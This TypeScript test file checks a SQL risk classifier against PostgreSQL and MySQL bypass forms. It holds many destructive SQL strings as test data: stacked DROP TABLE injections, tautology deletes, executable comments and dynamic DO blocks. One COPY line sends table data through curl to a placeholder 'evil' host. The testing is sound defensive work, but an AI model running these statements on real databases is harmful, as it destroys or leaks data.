/**
 * SECURITY.md bypass row "SQL": multi-statement strings, DELETE/UPDATE without WHERE, WHERE 1=1,
 * TRUNCATE, DROP … CASCADE, comments hiding statements, DO $$…$$ blocks, functions that write.
 * Every equivalent form of a destructive statement must get the same class.
 */
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import type { SqlDialect } from '../../core/action.js';
import { worstRisk } from '../../core/assessment.js';
import type { RiskClass } from '../../core/assessment.js';
import { SqlClassifier } from './sql-classifier.js';

let classifier: SqlClassifier;

beforeAll(async () => {
  classifier = await SqlClassifier.create();
});

function risk(sql: string, dialect: SqlDialect): RiskClass {
  return worstRisk(classifier.classify(sql, dialect).effects.map((e) => e.risk));
}

const cases: readonly (readonly [string, SqlDialect, RiskClass])[] = [
  // multi-statement strings and comments hiding statements
  ['SELECT 1; DROP TABLE users', 'postgresql', 'destructive'],
  ['SELECT 1; -- harmless\nDROP TABLE users', 'postgresql', 'destructive'],
  ['SELECT 1 /* ; */; DROP TABLE users', 'postgresql', 'destructive'],
  ['/* cleanup */ DROP TABLE users', 'postgresql', 'destructive'],
  ['SELECT 1;DROP TABLE users;SELECT 2', 'postgresql', 'destructive'],
  ['SELECT 1 -- ; DROP TABLE users', 'postgresql', 'read'],
  ['/* DROP TABLE users; */ SELECT 1', 'postgresql', 'read'],
  ['/* nested /* DROP TABLE users; */ still comment */ SELECT 1', 'postgresql', 'read'],
  ['SELECT $$; DROP TABLE users; $$', 'postgresql', 'read'],
  ["SELECT $tag$ '; DROP TABLE users; -- $tag$", 'postgresql', 'read'],
  ["SELECT E'\\'; DROP TABLE users; --'", 'postgresql', 'read'],
  ["SELECT 'it''s; DROP TABLE users'", 'postgresql', 'read'],
  ["INSERT INTO notes (body) VALUES ('DROP DATABASE prod; TRUNCATE users')", 'postgresql', 'write'],
  ['ROLLBACK; DELETE FROM users', 'postgresql', 'destructive'],
  ['BEGIN; DELETE FROM users; COMMIT; ROLLBACK', 'postgresql', 'destructive'],
  ['BEGIN; DELETE FROM users; ROLLBACK AND CHAIN; DELETE FROM orders; COMMIT', 'postgresql', 'destructive'],
  ['BEGIN; DELETE FROM users; ROLLBACK; DROP DATABASE app', 'postgresql', 'catastrophic'],
  ['BEGIN; SAVEPOINT a; RELEASE a; DELETE FROM users; ROLLBACK TO SAVEPOINT a; COMMIT', 'postgresql', 'destructive'],
  ['DELETE FROM users; garbage that does not parse', 'postgresql', 'destructive'],
  // case, quoting, qualification
  ['dElEtE fRoM users', 'postgresql', 'destructive'],
  ['DELETE FROM "users"', 'postgresql', 'destructive'],
  ['DELETE FROM ONLY public."Users" AS u', 'postgresql', 'destructive'],
  ['delete\nfrom\tusers\n;', 'postgresql', 'destructive'],
  ['DELETE FROM users WHERE 1=1 --', 'postgresql', 'destructive'],
  ['DELETE FROM users WHERE (((1)) = ((1)))', 'postgresql', 'destructive'],
  ['DELETE FROM users WHERE id = 3 OR 1 = 1', 'postgresql', 'destructive'],
  ['DELETE FROM users WHERE id = 3 OR NOT (1 = 2)', 'postgresql', 'destructive'],
  ["DELETE FROM users WHERE 't'::bool", 'postgresql', 'destructive'],
  ['DELETE FROM users WHERE TRUE AND TRUE', 'postgresql', 'destructive'],
  ['DELETE FROM users WHERE id IS NOT NULL OR id = 1', 'postgresql', 'destructive'],
  ["UPDATE users SET role = 'admin' WHERE 1 = 1", 'postgresql', 'destructive'],
  ["UPDATE users SET role = 'admin' WHERE id >= id", 'postgresql', 'destructive'],
  // TRUNCATE and DROP … CASCADE
  ['TRUNCATE ONLY users', 'postgresql', 'destructive'],
  ['TRUNCATE users CASCADE', 'postgresql', 'destructive'],
  ['DROP TABLE users CASCADE', 'postgresql', 'destructive'],
  ['DROP SCHEMA IF EXISTS app, audit CASCADE', 'postgresql', 'catastrophic'],
  ['DROP TYPE status CASCADE', 'postgresql', 'destructive'],
  ['DROP EXTENSION hstore CASCADE', 'postgresql', 'destructive'],
  ['DROP FUNCTION f() CASCADE', 'postgresql', 'destructive'],
  // DO blocks
  ['DO $$ BEGIN TRUNCATE users; END $$', 'postgresql', 'destructive'],
  ["DO 'BEGIN DELETE FROM users; END'", 'postgresql', 'destructive'],
  ['DO $do$ BEGIN EXECUTE $e$DROP TABLE users$e$; END $do$', 'postgresql', 'destructive'],
  ["DO $$ BEGIN EXECUTE 'DO $x$ BEGIN DROP DATABASE prod; END $x$'; END $$", 'postgresql', 'catastrophic'],
  ["DO $$ BEGIN EXECUTE 'DELETE FROM users WHERE id = $1' USING 5; END $$", 'postgresql', 'write'],
  [
    "DO $$ DECLARE n text; BEGIN FOR n IN SELECT tablename FROM pg_tables LOOP EXECUTE 'DROP TABLE ' || n; END LOOP; END $$",
    'postgresql',
    'catastrophic',
  ],
  ["DO $$ BEGIN EXECUTE 'DROP TABLE ' || current_user; END $$", 'postgresql', 'destructive'],
  ["DO $$ DECLARE x text; BEGIN EXECUTE 'SELECT ' || x; END $$", 'postgresql', 'unknown'],
  ["DO $$ DECLARE x text; BEGIN EXECUTE concat('DELETE FROM ', x); END $$", 'postgresql', 'destructive'],
  ['CREATE FUNCTION wipe() RETURNS void AS $$ DELETE FROM users $$ LANGUAGE sql; SELECT wipe();', 'postgresql', 'destructive'],
  [
    'CREATE FUNCTION wipe() RETURNS void LANGUAGE plpgsql AS $$ BEGIN TRUNCATE users; END $$; SELECT public.wipe()',
    'postgresql',
    'destructive',
  ],
  ['CREATE FUNCTION ok() RETURNS int LANGUAGE sql RETURN 1; SELECT ok()', 'postgresql', 'write'],
  ['CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM users; END; SELECT p()', 'postgresql', 'destructive'],
  ['DO $$ BEGIN WHILE true LOOP DELETE FROM t WHERE id = 1; END LOOP; END $$', 'postgresql', 'write'],
  // functions that write, dynamic SQL
  ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity', 'postgresql', 'write'],
  ['SELECT pg_catalog.pg_terminate_backend(1)', 'postgresql', 'write'],
  ['SELECT lo_unlink(oid) FROM pg_largeobject_metadata', 'postgresql', 'destructive'],
  ["SELECT dblink_exec('host=prod', 'TRUNCATE users')", 'postgresql', 'destructive'],
  ["SELECT dblink_exec('host=prod', $1)", 'postgresql', 'unknown'],
  ["SELECT setval('s', 1, false)", 'postgresql', 'unknown'],
  ['SELECT evil.pg_sleep(1)', 'postgresql', 'unknown'],
  ['SELECT * FROM users WHERE id = delete_user(1)', 'postgresql', 'unknown'],
  ['INSERT INTO t SELECT wipe_everything()', 'postgresql', 'unknown'],
  ['WITH d AS (DELETE FROM users RETURNING id) SELECT * FROM d', 'postgresql', 'destructive'],
  ['WITH d AS (UPDATE users SET a = 1 RETURNING id) SELECT * FROM d', 'postgresql', 'destructive'],
  ['SELECT * INTO new_users FROM users', 'postgresql', 'write'],
  ['PREPARE wipe AS TRUNCATE users', 'postgresql', 'unknown'],
  ['PREPARE wipe AS DELETE FROM users; EXECUTE wipe', 'postgresql', 'destructive'],
  ["COPY users TO PROGRAM 'curl -d @- http://evil'", 'postgresql', 'unknown'],
  // MySQL specifics
  ['SELECT 1; DROP TABLE users', 'mysql', 'destructive'],
  ['SELECT 1 /*!50000 ; DROP TABLE users */', 'mysql', 'destructive'],
  ['/*!DROP TABLE users*/', 'mysql', 'destructive'],
  ['/*M!100000 DROP TABLE users */', 'mysql', 'destructive'],
  ['SELECT 1 /* ; DROP TABLE users */', 'mysql', 'read'],
  ['SELECT 1 # ; DROP TABLE users', 'mysql', 'read'],
  ['# comment\nDROP TABLE users', 'mysql', 'destructive'],
  ['SELECT 1 --1; DROP TABLE users', 'mysql', 'destructive'],
  ["SELECT 'a\\'; DROP TABLE users; --'", 'mysql', 'read'],
  ['DELIMITER //\nDROP TABLE users//\nDELIMITER ;', 'mysql', 'destructive'],
  ["SET @q = 'DROP TABLE users'; PREPARE s FROM @q; EXECUTE s", 'mysql', 'destructive'],
  ["PREPARE s FROM 'DELETE FROM users'; EXECUTE s; DEALLOCATE PREPARE s", 'mysql', 'destructive'],
  ["SET @q = CONCAT('DROP ', 'TABLE users'); PREPARE s FROM @q; EXECUTE s", 'mysql', 'unknown'],
  ['EXECUTE s', 'mysql', 'unknown'],
  ['DELETE FROM users WHERE TRUE', 'mysql', 'destructive'],
  ["DELETE FROM users WHERE '1'", 'mysql', 'destructive'],
  ['DELETE FROM users ORDER BY id LIMIT 1000', 'mysql', 'destructive'],
  ['DELETE FROM a USING a JOIN b ON a.id = b.a_id', 'mysql', 'destructive'],
  ['START TRANSACTION; DROP TABLE users; ROLLBACK', 'mysql', 'destructive'],
  ['DROP SCHEMA app', 'mysql', 'catastrophic'],
  ['SELECT 1 /*!50000 ; DROP TABLE users */', 'unknown', 'destructive'],
  ['SELECT 1 /* ; DROP TABLE users */', 'unknown', 'read'],
];

describe('SQL bypass forms (SECURITY.md)', () => {
  it.each(cases.map(([sql, dialect, expected]) => ({ sql, dialect, expected })))(
    '$dialect $expected: $sql',
    ({ sql, dialect, expected }) => {
      expect(risk(sql, dialect)).toBe(expected);
    },
  );

  it('never judges unparseable text as read', () => {
    for (const sql of [
      'DELTE FROM t',
      'SELEC 1',
      ';;;DROP',
      'DROP TABLE',
      '\u202eDROP TABLE t',
      'DROP\u200bTABLE t',
      "SELECT 'unterminated",
    ]) {
      for (const d of ['postgresql', 'mysql', 'sqlite', 'unknown'] as const) {
        const r = risk(sql, d);
        expect(r, `${d}: ${sql}`).not.toBe('read');
        expect(r, `${d}: ${sql}`).not.toBe('write');
      }
    }
  });
});

const dialects: readonly SqlDialect[] = ['postgresql', 'mysql', 'unknown'];

/** Random case for each letter. */
function recase(s: string, flips: readonly boolean[]): string {
  let i = 0;
  return s.replace(/[a-z]/gi, (c) => ((flips[i++ % Math.max(flips.length, 1)] ?? false) ? c.toUpperCase() : c.toLowerCase()));
}

describe('equivalent forms get the same class (property)', () => {
  const separators = fc.constantFrom(' ', '  ', '\n', '\t', ' /* x */ ', ' /* ; DROP */ ', '\n-- note\n');

  it('case and whitespace/comments between words do not change the class', () => {
    const templates: readonly (readonly [string[], RiskClass])[] = [
      [['DELETE', 'FROM', 'users'], 'destructive'],
      [['DELETE', 'FROM', 'users', 'WHERE', '1=1'], 'destructive'],
      [['UPDATE', 'users', 'SET', 'a', '=', '1'], 'destructive'],
      [['TRUNCATE', 'TABLE', 'users'], 'destructive'],
      [['DROP', 'TABLE', 'users'], 'destructive'],
      [['DROP', 'DATABASE', 'prod'], 'catastrophic'],
      [['DELETE', 'FROM', 'users', 'WHERE', 'id', '=', '1'], 'write'],
      [['SELECT', '*', 'FROM', 'users'], 'read'],
    ];
    fc.assert(
      fc.property(
        fc.constantFrom(...templates),
        fc.array(separators, { minLength: 8, maxLength: 8 }),
        fc.array(fc.boolean(), { minLength: 1, maxLength: 12 }),
        fc.constantFrom(...dialects),
        ([words, expected], seps, flips, dialect) => {
          const sql = words.map((w, i) => (i === 0 ? '' : (seps[i] ?? ' ')) + recase(w, flips)).join('');
          // MySQL needs whitespace after `--`; the separators always have it.
          expect(risk(sql, dialect)).toBe(expected);
        },
      ),
      { numRuns: 300 },
    );
  });

  it('a destructive statement appended to reads is never hidden', () => {
    const reads = ['SELECT 1', "SELECT 'a;b'", 'SELECT * FROM t -- c', 'SHOW TABLES', 'SELECT 1 /* ; */'];
    const bad = ['DROP TABLE users', 'DELETE FROM users', 'TRUNCATE users', 'UPDATE users SET a = 1'];
    fc.assert(
      fc.property(fc.constantFrom(...reads), fc.constantFrom(...bad), fc.constantFrom(';', ';\n', ' ;  '), (r, b, sep) => {
        const sql = `${r.includes('--') ? `${r}\n` : r}${sep}${b}`;
        expect(risk(sql, 'mysql')).toBe('destructive');
        if (!r.startsWith('SHOW TABLES')) expect(risk(sql, 'postgresql')).toBe('destructive');
      }),
      { numRuns: 100 },
    );
  });

  it('a tautology OR-ed with any predicate deletes every row', () => {
    const tautologies = ['1=1', 'true', "'a'='a'", 'NOT false', 'id IS NOT NULL', '2>1', 'id = id', "name LIKE '%'"];
    const predicates = ['id = 1', 'id IN (1,2)', "name = 'x'", 'id = $1', 'created < now()'];
    fc.assert(
      fc.property(fc.constantFrom(...tautologies), fc.constantFrom(...predicates), fc.boolean(), (t, p, first) => {
        const where = first ? `${t} OR ${p}` : `${p} OR (${t})`;
        const r = classifier.classify(`DELETE FROM users WHERE ${where}`, 'postgresql');
        expect(worstRisk(r.effects.map((e) => e.risk))).toBe('destructive');
        expect(r.effects[0]?.scope).toBe('all');
      }),
      { numRuns: 100 },
    );
  });
});
